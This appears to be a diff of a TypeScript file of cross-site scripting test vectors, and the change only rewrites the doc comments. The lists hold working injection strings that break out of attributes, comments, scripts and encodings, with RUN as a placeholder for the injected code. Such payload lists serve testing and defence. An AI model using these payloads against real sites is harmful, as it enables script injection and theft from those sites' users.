@@ -1,6 +1,6 @@
 import { byteEscapes, decimals, unicodeEscapes, type Vector } from './vector.ts'
 
-/** Out of an attribute's value. */
+/** Breaks out of an attribute's value. */
 export const outOfAttributes: Vector[] = [
 	'" onmouseover="RUN',
 	"' onmouseover='RUN",
@@ -32,7 +32,7 @@ export const outOfAttributes: Vector[] = [
 	'"><img src=x onerror=RUN>.jpeg',
 ]
 
-/** Out of comments and of elements whose content is text. */
+/** Breaks out of comments and of elements whose content is text. */
 export const outOfTexts: Vector[] = [
 	'--><img src=x onerror=RUN>',
 	'--!><img src=x onerror=RUN>',
@@ -52,7 +52,7 @@ export const outOfTexts: Vector[] = [
 	'<!DOCTYPE x [<!ENTITY y "<script>RUN</script>">]>&y;',
 ]
 
-/** Out of strings, templates, comments and data in a script. */
+/** Breaks out of strings, templates, comments and data in a script. */
 export const outOfScripts: Vector[] = [
 	'</script><script>RUN</script>',
 	'</SCRIPT ><img src=x onerror=RUN>',
@@ -86,7 +86,7 @@ export const outOfScripts: Vector[] = [
 	(run) => `<script>${unicodeEscapes(run.slice(0, 6))}${run.slice(6)}</script>`,
 ]
 
-/** Encoded once and twice: what decodes too often takes it for markup. */
+/** Encodes the vectors once and twice: what decodes too often takes them for markup. */
 export const encodedTwice: Vector[] = [
 	'&lt;script&gt;RUN&lt;/script&gt;',
 	'&lt;img src=x onerror=RUN&gt;',
